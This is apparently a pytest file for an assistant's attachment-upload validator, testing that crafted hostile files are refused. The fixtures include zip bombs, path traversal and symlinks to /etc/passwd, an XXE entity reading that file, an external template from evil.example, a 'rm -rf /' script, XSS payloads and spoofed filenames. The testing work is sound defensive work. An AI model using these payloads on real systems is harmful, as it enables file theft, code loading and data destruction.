"""Attachments: what is taken, what is refused and why. Every hostile file is made here, byte by byte."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pytest

from assistant.uploads import (
    FileKind,
    Limits,
    Opened,
    Reason,
    Refused,
    Unreadable,
    open_upload,
    open_uploads,
    safe_name,
)

TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
WORD = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'


def zipped(parts: dict[str, str | bytes], *, level: int = 9) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return file.getvalue()


def docx(**more: str | bytes) -> bytes:
    return zipped({"[Content_Types].xml": TYPES, "word/document.xml": WORD, **more})


def xlsx(parts: dict[str, str | bytes] | None = None) -> bytes:
    return zipped({"[Content_Types].xml": TYPES, "xl/workbook.xml": "<workbook/>", **(parts or {})})


def hwpx(parts: dict[str, str | bytes] | None = None) -> bytes:
    return zipped(
        {
            "mimetype": "application/hwp+zip",
            "Contents/content.hpf": "<p/>",
            "Contents/section0.xml": "<s/>",
            **(parts or {}),
        }
    )


def png(width: int, height: int) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + struct.pack(">I", 13)
        + b"IHDR"
        + header
        + struct.pack(">I", zlib.crc32(b"IHDR" + header))
    )


def read(kind: FileKind, content: bytes) -> str:
    """Stands in for the reader of documents: reached only by what was found harmless."""
    return f"읽은 {kind.value}"


def never(kind: FileKind, content: bytes) -> str:
    raise AssertionError(f"a refused file reached the reader as {kind}")


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("민원.docx", docx(), FileKind.DOCX),
        ("표.xlsx", xlsx(), FileKind.XLSX),
        ("신청서.hwpx", hwpx(), FileKind.HWPX),
        ("신청서.hwp", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"HWP Document File" + bytes(20), FileKind.HWP),
        ("고지서.pdf", b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>", FileKind.PDF),
        ("사진.png", png(4000, 3000), FileKind.IMAGE),
        ("메모.txt", "안녕하세요".encode("cp949"), FileKind.TEXT),
        ("메모.md", "# 제목".encode(), FileKind.TEXT),
        ("쪽.html", b"<!doctype html><p>hi</p>", FileKind.HTML),
    ],
)
def test_takes_ordinary_files_by_what_they_hold(name: str, content: bytes, kind: FileKind) -> None:
    opened = open_upload(name, content, read)
    assert isinstance(opened, Opened)
    assert opened.kind is kind


def bomb() -> bytes:
    return docx(**{"word/media/a.bin": bytes(30 * 2**20)})


def many_small_bombs() -> bytes:
    return docx(**{f"word/media/{i}.bin": bytes(900_000) for i in range(150)})


def lying_bomb() -> bytes:
    """Declares one kilobyte where thirty megabytes come out."""
    content = bytearray(bomb())
    at = content.index(b"word/media/a.bin", content.index(b"PK\x01\x02")) - 46
    struct.pack_into("<I", content, at + 24, 1024)
    return bytes(content)


def nested() -> bytes:
    inner = zipped({"a.txt": "a"})
    return docx(**{"word/media/inner.zip": inner})


def deeply_embedded() -> bytes:
    sheet = xlsx({"xl/embeddings/again.xlsx": xlsx()})
    return docx(**{"word/embeddings/sheet.xlsx": sheet})


def embedded_bomb() -> bytes:
    return docx(**{"word/embeddings/sheet.xlsx": xlsx({"xl/media/a.bin": bytes(30 * 2**20)})})


def traversal() -> bytes:
    return docx(**{"../../etc/cron.d/job": "x"})


def drive() -> bytes:
    return docx(**{"C:\\windows\\a.txt": "x"})


def link() -> bytes:
    file = io.BytesIO(docx())
    with zipfile.ZipFile(file, "a") as archive:
        entry = zipfile.ZipInfo("word/link")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return file.getvalue()


def locked_zip() -> bytes:
    content = bytearray(docx())
    at = content.index(b"PK\x01\x02")
    content[at + 8] |= 1
    return bytes(content)


DOCTYPE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
BILLION = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><l>&b;</l>'
TEMPLATE = (
    '<Relationships><Relationship Id="r1" Target="http://evil.example/a.dotm" TargetMode="External" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
)


@pytest.mark.parametrize(
    ("name", "make", "reason"),
    [
        ("a.docx", bomb, Reason.EXPLODES),
        ("a.docx", many_small_bombs, Reason.EXPLODES),
        ("a.docx", lying_bomb, Reason.BROKEN),
        ("a.docx", embedded_bomb, Reason.EXPLODES),
        ("a.docx", nested, Reason.NESTED),
        ("a.docx", deeply_embedded, Reason.NESTED),
        ("a.docx", traversal, Reason.PATH),
        ("a.docx", drive, Reason.PATH),
        ("a.docx", link, Reason.PATH),
        ("a.docx", locked_zip, Reason.ENCRYPTED),
        ("a.docx", lambda: docx(**{"word/vbaProject.bin": b"x"}), Reason.MACROS),
        ("a.xlsx", lambda: xlsx({"xl/macrosheets/sheet1.xml": "<x/>"}), Reason.MACROS),
        ("a.docx", lambda: docx(**{"word/activeX/activeX1.bin": b"x"}), Reason.MACROS),
        ("a.hwpx", lambda: hwpx({"BinData/run.vbs": "x"}), Reason.MACROS),
        ("a.docm", docx, Reason.MACROS),
        ("a.docx", lambda: docx(**{"word/styles.xml": DOCTYPE}), Reason.ENTITIES),
        ("a.docx", lambda: docx(**{"word/styles.xml": DOCTYPE.encode("utf-16")}), Reason.ENTITIES),
        ("a.docx", lambda: docx(**{"word/styles.xml": DOCTYPE.encode("utf-16-le")}), Reason.ENTITIES),
        ("a.xlsx", lambda: xlsx({"xl/sharedStrings.xml": BILLION}), Reason.ENTITIES),
        ("a.hwpx", lambda: hwpx({"Contents/header.xml": DOCTYPE}), Reason.ENTITIES),
        ("a.docx", lambda: docx(**{"word/_rels/settings.xml.rels": TEMPLATE}), Reason.OUTSIDE),
        ("a.docx", lambda: docx()[:200], Reason.BROKEN),
        ("a.zip", lambda: zipped({"a.txt": "a"}), Reason.ARCHIVE),
        ("a.docx", lambda: zipped({"a.txt": "a"}), Reason.ARCHIVE),
        ("a.7z", lambda: b"7z\xbc\xaf\x27\x1c rest", Reason.ARCHIVE),
        ("a.txt", lambda: b"MZ\x90\x00 this program", Reason.PROGRAM),
        ("a.pdf", lambda: b"\x7fELF rest", Reason.PROGRAM),
        ("run.txt", lambda: b"#!/bin/sh\nrm -rf /", Reason.PROGRAM),
        ("a.pdf", docx, Reason.WRONG_EXTENSION),
        ("a.docx", lambda: b"%PDF-1.7 x", Reason.WRONG_EXTENSION),
        ("a.pdf.exe", lambda: b"%PDF-1.7 x", Reason.WRONG_EXTENSION),
        ("사진.jpg", lambda: b"<html><script>alert(1)</script>", Reason.WRONG_EXTENSION),
        ("메모.txt", lambda: b"<script>alert(1)</script>", Reason.WRONG_EXTENSION),
        ("그림.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', Reason.NOT_SUPPORTED),
        ("a.xml", lambda: DOCTYPE.encode(), Reason.NOT_SUPPORTED),
        ("a.bin", lambda: bytes(range(256)), Reason.NOT_SUPPORTED),
        ("a.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "_VBA_PROJECT".encode("utf-16-le"), Reason.MACROS),
        ("a.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100), Reason.NOT_SUPPORTED),
        (
            "a.docx",
            lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"),
            Reason.ENCRYPTED,
        ),
        ("a.pdf", lambda: b"%PDF-1.7\ntrailer<</Encrypt 5 0 R>>", Reason.ENCRYPTED),
        ("사진.png", lambda: png(60_000, 60_000), Reason.EXPLODES),
        ("a.txt", lambda: b"", Reason.EMPTY),
        ("a.txt", lambda: b" \r\n\0", Reason.EMPTY),
    ],
)
def test_refuses_and_says_why(name: str, make: Callable[[], bytes], reason: Reason) -> None:
    refused = open_upload(name, make(), never)
    assert isinstance(refused, Refused), refused
    assert refused.reason is reason
    assert refused.mend


def test_refuses_what_is_too_large_unread() -> None:
    refused = open_upload("a.txt", b"a" * 101, never, Limits(size=100))
    assert isinstance(refused, Refused)
    assert refused.reason is Reason.TOO_LARGE


def test_refuses_files_past_the_number_allowed() -> None:
    results = open_uploads([(f"{i}.txt", "글".encode()) for i in range(4)], never, Limits(files=3))
    assert [type(result) for result in results] == [Opened, Opened, Opened, Refused]


def test_refuses_a_document_with_too_many_parts() -> None:
    content = docx(**{f"word/{i}.xml": "<x/>" for i in range(50)})
    refused = open_upload("a.docx", content, never, Limits(parts=20))
    assert isinstance(refused, Refused)
    assert refused.reason is Reason.TOO_MANY


def test_hangul_s_own_empty_scripts_are_no_macro() -> None:
    opened = open_upload("a.hwpx", hwpx({"Scripts/headerScripts": "var a", "Scripts/sourceScripts": "f"}), read)
    assert isinstance(opened, Opened)


def test_a_document_may_hold_a_sheet() -> None:
    opened = open_upload("a.docx", docx(**{"word/embeddings/sheet.xlsx": xlsx()}), read)
    assert isinstance(opened, Opened)


def test_html_becomes_the_text_a_reader_would_see() -> None:
    page = (
        "<html><head><title>t</title></head><body onload=alert(1)><p>불법주차 &lt;신고&gt;</p><script>steal()</script>"
        "<iframe src=x>안</iframe><a href='javascript:alert(1)'>여기</a><style>p{}</style></body></html>"
    )
    opened = open_upload("a.html", page.encode(), never)
    assert isinstance(opened, Opened)
    assert opened.text == "불법주차 <신고>여기"


def test_hidden_and_control_characters_leave_the_text() -> None:
    opened = open_upload("a.txt", "가\u200b나\u202e다\x07".encode(), never)
    assert isinstance(opened, Opened)
    assert opened.text == "가나다"


def test_long_texts_are_cut_and_said_to_be() -> None:
    opened = open_upload("a.txt", "가".encode() * 500, never, Limits(characters=100))
    assert isinstance(opened, Opened)
    assert len(opened.text) == 100
    assert opened.notes


def test_what_the_reader_cannot_read_is_refused_with_its_reason() -> None:
    def locked(kind: FileKind, content: bytes) -> str:
        raise Unreadable(Reason.ENCRYPTED, "a password is needed")

    refused = open_upload("a.pdf", b"%PDF-1.7 x", locked)
    assert refused == Refused("a.pdf", Reason.ENCRYPTED, refused.mend if isinstance(refused, Refused) else "")


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\me\\신청서.hwpx", "신청서.hwpx"),
        ("사진\u202egpj.exe", "사진gpj.exe"),
        ("a\0b.pdf", "ab.pdf"),
        (".htaccess", "htaccess"),
        ("con.txt", "_con.txt"),
        ("<img src=x onerror=alert(1)>.png", "_img src=x onerror=alert(1)_.png"),
        ("", "unnamed"),
        ("...", "unnamed"),
    ],
)
def test_names_are_made_safe(given: str, kept: str) -> None:
    assert safe_name(given) == kept


def test_long_names_keep_their_extension() -> None:
    name = safe_name("가" * 300 + ".pdf")
    assert len(name) == 120
    assert name.endswith(".pdf")
